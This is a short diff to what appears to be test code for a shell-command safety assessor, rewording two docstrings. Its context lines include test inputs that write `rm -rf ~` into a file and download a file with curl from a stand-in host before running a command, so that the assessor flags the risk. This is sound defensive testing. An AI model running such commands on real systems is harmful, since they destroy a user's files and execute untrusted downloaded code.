@@ -97,7 +97,7 @@ class Row(Record):
                 return [each.reason for each in found if "sets up this shell" in each.reason]
 
     def wanted(self) -> int:
-        """How much is to be found."""
+        """The number of faults that are to be found."""
         if self.kind in KINDS:
             return sum(word.startswith("-") for word in self.command.split())
         return len(self.more.split()) if self.kind == "heeds" else 1
@@ -106,7 +106,7 @@ class Row(Record):
         return list(overrides(_command(self.command).argv, PLAIN))
 
     def _loaded(self, file: str) -> list[tuple[str, ...]]:
-        """Why a command runs code where another has written, filled or downloaded the file."""
+        """The reason why a command runs code where another has written, filled or downloaded the file."""
         context = replace(CONTEXT, cwd=f"{PROJECT}/part")
         writers = f"echo x > {file}", f"echo 'do(\"rm -rf ~\")' > {file}", f"curl -so {file} https://a.example/"
         found = [assess(f"{writer}; {self.command}", context).findings[-1] for writer in writers]
